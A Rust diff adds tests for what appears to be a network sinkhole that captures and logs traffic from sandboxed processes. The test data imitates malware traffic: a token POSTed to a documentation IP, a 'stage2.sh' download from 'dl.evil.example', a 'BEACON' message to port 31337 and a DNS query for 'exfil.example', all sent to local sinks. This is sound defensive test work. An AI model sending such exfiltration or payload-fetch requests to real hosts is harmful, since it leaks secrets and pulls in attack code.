@@ -304,3 +304,113 @@ pub(super) fn request_complete(buf: &[u8]) -> bool {
 fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
     haystack.windows(needle.len()).position(|w| w == needle)
 }
+
+#[cfg(test)]
+mod tests {
+    use std::io::{Read, Write};
+    use std::net::{SocketAddrV4, UdpSocket};
+
+    use super::super::sinkhole::sinkhole;
+    use super::super::testutil::{connect, localhost, query, stop_checked, udp_exchange};
+    use super::super::{Sinks, World};
+    use super::*;
+
+    fn world() -> Sinks {
+        Sinks::start("127.0.0.1:0".parse().unwrap(), &[0], Some(World::default())).unwrap()
+    }
+
+    fn route(sinks: &Sinks, pid: i32, dest: &str) -> SocketAddrV4 {
+        sinks.routes().unwrap().route(pid, dest.parse().unwrap()).unwrap()
+    }
+
+    fn exchange(to: SocketAddr, request: &[u8]) -> Vec<u8> {
+        let mut stream = connect(to.ip(), to.port());
+        stream.write_all(request).unwrap();
+        let mut response = Vec::new();
+        stream.read_to_end(&mut response).unwrap();
+        response
+    }
+
+    #[test]
+    fn http_is_answered_and_recorded_with_where_it_was_going() {
+        let sinks = world();
+        // Straight to a sink port on loopback: no route, the address reached.
+        let port = sinks.tcp_local_ports()[0];
+        let response = exchange(SocketAddr::new(localhost(), port), b"GET /x HTTP/1.1\r\nHost: evil.example\r\n\r\n");
+        assert!(response.starts_with(b"HTTP/1.1 200 OK\r\n"), "{}", String::from_utf8_lossy(&response));
+        // A bare IP and an odd port, rerouted by the tracer (here: by hand).
+        let via = route(&sinks, 7, "203.0.113.9:8080");
+        let body = b"POST /upload HTTP/1.1\r\nHost: 203.0.113.9:8080\r\nContent-Length: 9\r\n\r\ntoken=abc";
+        assert!(exchange(SocketAddr::V4(via), body).starts_with(b"HTTP/1.1 200 OK\r\n"));
+        // A name the DNS sink handed out: the record is named.
+        udp_exchange(sinks.dns_local_addr(), &query(3, "dl.evil.example", 1));
+        let via = route(&sinks, 8, &format!("{}:80", sinkhole("dl.evil.example")));
+        let response = exchange(SocketAddr::V4(via), b"GET /stage2.sh HTTP/1.1\r\nHost: dl.evil.example\r\n\r\n");
+        let text = String::from_utf8_lossy(&response);
+        assert!(text.contains("\r\n\r\n#!/bin/sh"), "a download gets a script: {text}");
+
+        let log = stop_checked(sinks);
+        let got: Vec<_> = log
+            .received
+            .iter()
+            .map(|r| (r.protocol, r.dest.to_string(), r.pid, r.host.as_deref(), r.method.as_deref(), r.url.as_deref()))
+            .collect();
+        let dl = format!("{}:80", sinkhole("dl.evil.example"));
+        assert_eq!(
+            got,
+            [
+                ("http", format!("127.0.0.1:{port}"), None, Some("evil.example"), Some("GET"), Some("http://evil.example/x")),
+                (
+                    "http",
+                    "203.0.113.9:8080".to_string(),
+                    Some(7),
+                    Some("203.0.113.9"),
+                    Some("POST"),
+                    Some("http://203.0.113.9:8080/upload")
+                ),
+                ("http", dl, Some(8), Some("dl.evil.example"), Some("GET"), Some("http://dl.evil.example/stage2.sh")),
+            ]
+        );
+        assert!(log.received[1].data.ends_with(b"\r\n\r\ntoken=abc"), "the body is read before the answer");
+    }
+
+    #[test]
+    fn other_ports_record_the_first_bytes_and_answer_nothing() {
+        let sinks = world();
+        let via = route(&sinks, 5, "[2001:db8::44]:31337");
+        let response = exchange(SocketAddr::V4(via), b"BEACON host user\n");
+        assert!(response.is_empty());
+        let log = stop_checked(sinks);
+        assert_eq!(log.received.len(), 1);
+        let r = &log.received[0];
+        assert_eq!((r.protocol, r.dest.to_string(), r.pid), ("raw", "[2001:db8::44]:31337".to_string(), Some(5)));
+        assert_eq!(r.data, b"BEACON host user\n");
+    }
+
+    #[test]
+    fn datagrams_are_recorded_and_dns_to_any_resolver_is_answered_from_its_address() {
+        let sinks = world();
+        // A connected socket (glibc, c-ares) only takes a reply from the
+        // address it sent to: the sink answers from the routed address.
+        let via = route(&sinks, 9, "8.8.8.8:53");
+        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
+        socket.connect(via).unwrap();
+        socket.set_read_timeout(Some(std::time::Duration::from_secs(3))).unwrap();
+        socket.send(&query(0x77, "exfil.example", 1)).unwrap();
+        let mut buf = [0u8; 512];
+        let n = socket.recv(&mut buf).expect("a reply from the address the query went to");
+        assert_eq!(&buf[..2], &[0, 0x77]);
+        assert!(n > 12);
+        let raw = route(&sinks, 9, "203.0.113.53:9999");
+        socket.send_to(b"dG9rZW4=", raw).unwrap();
+        let log = stop_checked(sinks);
+        let got: Vec<_> = log.received.iter().map(|r| (r.transport, r.protocol, r.dest.to_string(), r.pid)).collect();
+        assert_eq!(
+            got,
+            [("udp", "dns", "8.8.8.8:53".to_string(), Some(9)), ("udp", "raw", "203.0.113.53:9999".to_string(), Some(9))]
+        );
+        assert_eq!(log.received[0].host.as_deref(), Some("exfil.example"));
+        assert_eq!(log.received[1].data, b"dG9rZW4=");
+        assert_eq!(log.log.dns[0].server.as_deref(), Some("8.8.8.8:53"));
+    }
+}
